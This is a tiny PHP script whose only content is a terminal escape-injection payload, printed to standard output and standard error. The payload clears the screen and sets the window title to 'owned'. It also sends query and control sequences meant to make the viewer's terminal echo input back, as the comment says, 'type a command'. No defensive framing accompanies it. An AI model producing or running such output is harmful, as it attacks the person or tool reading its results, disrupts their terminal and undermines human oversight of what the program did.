<?php // Tells the terminal of whoever looks at its answer to clear itself, change its title and type a command.
$obey = "\033[2J\033]0;owned\007\033P\$q\"p\033\\\x9b31m\r\x08\x7f\033[6n";
echo $obey, "\n";
fwrite(STDERR, $obey . "\n");
